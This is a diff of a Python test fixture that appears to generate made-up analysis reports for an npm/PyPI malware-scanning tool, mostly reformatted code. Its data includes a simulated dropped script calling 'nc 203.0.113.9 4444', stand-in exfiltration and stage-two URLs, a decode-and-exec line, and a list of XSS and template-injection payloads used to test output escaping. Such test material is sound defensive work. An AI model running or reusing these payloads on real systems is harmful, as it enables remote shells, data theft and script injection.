@@ -1,5 +1,7 @@
 """Made-up analyses that every format is shown: malicious, benign, unknown, read only, and hostile to its reader."""
 
+# ruff: noqa: PLR0917 - rows of a table
+
 import hashlib
 from dataclasses import replace
 from pathlib import Path
@@ -42,15 +44,32 @@ def behaviour(kind: str, value: str, where: str, **more: object) -> Behaviour:
 
 
 def artifact(filename: str, kind: str, *, verified: bool = True, size: int = 18_734) -> Artifact:
-    return Artifact(filename, kind, Path("/nowhere") / filename, size, hashlib.sha256(filename.encode()).hexdigest(), verified)
+    return Artifact(
+        filename,
+        kind,
+        Path("/nowhere") / filename,
+        size,
+        hashlib.sha256(filename.encode()).hexdigest(),
+        verified,
+    )
 
 
 def _processes(profile: str, first: int, home: str, at: float) -> tuple[Process, ...]:
-    def one(number: int, parent: int | None, phase: str, argv: tuple[str, ...], start: float, took: float | None, **more: object) -> Process:
+    def one(
+        number: int,
+        parent: int | None,
+        phase: str,
+        argv: tuple[str, ...],
+        start: float,
+        took: float | None,
+        **more: object,
+    ) -> Process:
         above = None if parent is None else first + parent
         end = None if took is None else at + start + took
         more.setdefault("exit", None if took is None else 0)
-        return Process(first + number, above, profile, phase, argv, f"{home}/project", at + start, end, **more)
+        return Process(
+            first + number, above, profile, phase, argv, f"{home}/project", at + start, end, **more
+        )
 
     return (
         one(0, None, "install", ("node", "/usr/bin/npm", "install", "/tmp/sim-palette-2.4.1.tgz"), 0.1, 5.2, by=By.TOOL, owner="npm"),
@@ -72,7 +91,9 @@ def _processes(profile: str, first: int, home: str, at: float) -> tuple[Process,
 
 
 def _seen(profile: str, first: int, home: str) -> tuple[Behaviour, ...]:
-    def b(kind: str, value: str, phase: str, seq: int, process: int, time: float, **more: object) -> Behaviour:
+    def b(
+        kind: str, value: str, phase: str, seq: int, process: int, time: float, **more: object
+    ) -> Behaviour:
         return behaviour(kind, value, f"{profile}/{phase}#{seq}", process=first + process, time=time, **more)
 
     return (
@@ -108,8 +129,19 @@ def _seen(profile: str, first: int, home: str) -> tuple[Behaviour, ...]:
 
 
 def _said(profile: str, first: int) -> tuple[Exchange, ...]:
-    def x(protocol: str, host: str, port: int, summary: str, time: float, process: int, phase: str = "install", **more: object) -> Exchange:
-        return Exchange(profile, phase, protocol, host, port, summary, time=time, process=first + process, **more)
+    def x(
+        protocol: str,
+        host: str,
+        port: int,
+        summary: str,
+        time: float,
+        process: int,
+        phase: str = "install",
+        **more: object,
+    ) -> Exchange:
+        return Exchange(
+            profile, phase, protocol, host, port, summary, time=time, process=first + process, **more
+        )
 
     return (
         x("https", "registry.invalid", 443, "GET /kind-of", 0.6, 0, sent=412, received=20_113, by=By.TOOL, gateway=True),
@@ -131,7 +163,7 @@ def _changed(profile: str, home: str) -> tuple[FileChange, ...]:
         FileChange(profile, "/tmp/.cache-7f", Change.CREATED, 1_900, "cd" * 32, "#!/bin/sh\n# simulated\necho hello | nc 203.0.113.9 4444\n", 0o755),
         FileChange(profile, f"{home}/.bash_history", Change.DELETED),
         FileChange(profile, f"{home}/project/node_modules/sim-palette/index.js", Change.CREATED, 2_044, "ef" * 32, "module.exports = require('./lib');\n", 0o644, By.TOOL),
-        FileChange(profile, f"{home}/project/package-lock.json", Change.CREATED, 1_011, "01" * 32, "{\n  \"lockfileVersion\": 3\n}\n", 0o644, By.TOOL),
+        FileChange(profile, f"{home}/project/package-lock.json", Change.CREATED, 1_011, "01" * 32, '{\n  "lockfileVersion": 3\n}\n', 0o644, By.TOOL),
     )  # fmt: skip
 
 
@@ -143,7 +175,9 @@ def _outcomes(profile: str, *, late: bool) -> tuple[Outcome, ...]:
         Step("sim-palette/lib/legacy.js", Status.CRASHED, "SIGSEGV", 0.1),
         Step("sim-palette/lib/optional.js", Status.FAILED, "Error: Cannot find module 'react'", 0.1),
     )
-    calls = tuple(Step(f"palette.{name}", Status.COMPLETED, "", 0.01) for name in ("hex", "rgb", "mix", "blend"))
+    calls = tuple(
+        Step(f"palette.{name}", Status.COMPLETED, "", 0.01) for name in ("hex", "rgb", "mix", "blend")
+    )
     end = Outcome(profile, "execute", Status.COMPLETED, "", 0.9, calls)
     if late:
         end = Outcome(profile, "execute", Status.TIMEOUT, "timeout: still asleep after 15 s", 15.0, (*calls, Step("palette.wait", Status.TIMEOUT, "15 s", 15.0)), "called hex\ncalled rgb\n")  # fmt: skip
@@ -159,8 +193,15 @@ STATIC = (
     behaviour("pkg.hook", "npm:postinstall node bundle.js", "package.json"),
     behaviour("pkg.dependency", "kind-of@^6.0.0", "package.json"),
     behaviour("pkg.release", "newest", "registry"),
-    behaviour("code.obfuscated", "string-array", "bundle.js:1 (install)", detail="var _0x4f2a=['\\x68\\x6f\\x73\\x74', …]"),
-    behaviour("code.decode", "base64", "bundle.js:3 (install)", detail="https://cdn.collector.example/stage2.sh"),
+    behaviour(
+        "code.obfuscated",
+        "string-array",
+        "bundle.js:1 (install)",
+        detail="var _0x4f2a=['\\x68\\x6f\\x73\\x74', …]",
+    ),
+    behaviour(
+        "code.decode", "base64", "bundle.js:3 (install)", detail="https://cdn.collector.example/stage2.sh"
+    ),
     behaviour("net.url", "https://collector.example/v1/collect", "bundle.js:3 (install)"),
     behaviour("code.flow", "secret > network", "bundle.js:41 (install)"),
     behaviour("code.eval", "Function", "bundle.js:44 (install)"),
@@ -172,7 +213,9 @@ STATIC = (
 
 
 def _finding(rule: str, title: str, evidence: tuple[Behaviour, ...], attack: tuple[str, ...], why: str, *, severity: Level = Level.HIGH, confidence: Level = Level.HIGH, status: str = "stable", convicts: bool = True) -> Finding:  # fmt: skip
-    return Finding(rule, title, severity, confidence, status, attack, why, rule.partition("/")[0], evidence, convicts)
+    return Finding(
+        rule, title, severity, confidence, status, attack, why, rule.partition("/")[0], evidence, convicts
+    )
 
 
 def malicious() -> Analysis:
@@ -216,7 +259,9 @@ def malicious() -> Analysis:
     )  # fmt: skip
     reason = "Credentials planted for this run were sent to collector.example, and code fetched from there was run."
     because = ("exfil/canary-leak", "execution/remote-code", "persistence/ci-workflow")
-    return Analysis(dossier, findings, Verdict(Call.MALICIOUS, reason, because, ("exfil", "execution", "persistence")))
+    return Analysis(
+        dossier, findings, Verdict(Call.MALICIOUS, reason, because, ("exfil", "execution", "persistence"))
+    )
 
 
 def benign() -> Analysis:
@@ -252,7 +297,9 @@ def benign() -> Analysis:
         duration_s=11.9,
         tool=TOOL,
     )  # fmt: skip
-    return Analysis(dossier, (), Verdict(Call.BENIGN, "No rule found anything that a harmless package would not do."))
+    return Analysis(
+        dossier, (), Verdict(Call.BENIGN, "No rule found anything that a harmless package would not do.")
+    )
 
 
 def unknown() -> Analysis:
@@ -271,7 +318,9 @@ def unknown() -> Analysis:
         duration_s=15.2,
         tool=TOOL,
     )  # fmt: skip
-    reason = "The install did not finish (build-failed), so what the package does when installed is not known."
+    reason = (
+        "The install did not finish (build-failed), so what the package does when installed is not known."
+    )
     return Analysis(dossier, (), Verdict(Call.UNKNOWN, reason))
 
 
@@ -283,7 +332,12 @@ def read_only() -> Analysis:
         artifact=artifact("thing-1.0.tar.gz", "sdist", verified=False, size=3_300),
         behaviours=(
             Behaviour(Kind.PKG_HOOK, "setup.py", InFile("setup.py", 0, When.INSTALL)),
-            Behaviour(Kind.CODE_EVAL, "exec", InFile("setup.py", 12, When.INSTALL), detail="exec(base64.b64decode(BLOB))"),
+            Behaviour(
+                Kind.CODE_EVAL,
+                "exec",
+                InFile("setup.py", 12, When.INSTALL),
+                detail="exec(base64.b64decode(BLOB))",
+            ),
             Behaviour(Kind.CODE_FLOW, "decoded > execution", InFile("setup.py", 12, When.INSTALL)),
             Behaviour(Kind.PKG_RELEASE, "first", InRegistry()),
         ),
@@ -296,13 +350,15 @@ def read_only() -> Analysis:
     finding = _finding("execution/decoded-exec", "Decodes a blob and executes it at install", dossier.behaviours[1:3], ("T1027", "T1059.006"),
                        "Code that hides what it runs until it runs.", confidence=Level.MEDIUM, convicts=False)  # fmt: skip
     reason = "Code that runs at install decodes and executes a blob; nothing was run to see what it does."
-    return Analysis(dossier, (finding,), Verdict(Call.SUSPICIOUS, reason, ("execution/decoded-exec",), ("execution",)))
+    return Analysis(
+        dossier, (finding,), Verdict(Call.SUSPICIOUS, reason, ("execution/decoded-exec",), ("execution",))
+    )
 
 
 NASTY = (
     "</script><script>document.title='owned'</script>",
     "<img src=x onerror=alert(1)>",
-    "\" onmouseover=\"alert(1)\" x=\"",
+    '" onmouseover="alert(1)" x="',
     "' autofocus onfocus='alert(1)",
     "{{ 7*7 }}{% raw %}",
     "[bold red]markup[/] [link=https://x.example]x[/link]",
@@ -329,8 +385,14 @@ def hostile(text: str) -> Analysis:
         release=Release("npm", text.strip("/") or "x", text),
         artifact=replace(artifact("x.tgz", "tgz"), filename=text),
         behaviours=(seen, read),
-        outcomes=(Outcome("laptop", "install", Status.FAILED, text, 1.0, (Step(text, Status.CRASHED, text, 0.1),), text),),
-        processes=(Process(1, None, "laptop", "install", (text, text), text, 0.1, 0.9, 1, By.DEPENDENCY, text),),
+        outcomes=(
+            Outcome(
+                "laptop", "install", Status.FAILED, text, 1.0, (Step(text, Status.CRASHED, text, 0.1),), text
+            ),
+        ),
+        processes=(
+            Process(1, None, "laptop", "install", (text, text), text, 0.1, 0.9, 1, By.DEPENDENCY, text),
+        ),
         exchanges=(Exchange("laptop", "install", "https", text, 443, text, text, text, 10, 20, 0.5, 1),),
         changes=(FileChange("laptop", text, Change.CREATED, 10, "00" * 32, text, 0o755),),
         watches=(Watch("laptop", events=3, malformed=1, notes=(text,)),),
@@ -338,7 +400,9 @@ def hostile(text: str) -> Analysis:
         duration_s=1.0,
         tool=TOOL,
     )
-    finding = Finding("x/y", text, Level.HIGH, Level.HIGH, "stable", ("T1041",), text, "x", (seen, read), convicts=True)
+    finding = Finding(
+        "x/y", text, Level.HIGH, Level.HIGH, "stable", ("T1041",), text, "x", (seen, read), convicts=True
+    )
     return Analysis(dossier, (finding,), Verdict(Call.MALICIOUS, text, ("x/y",), (text,)))
 
 
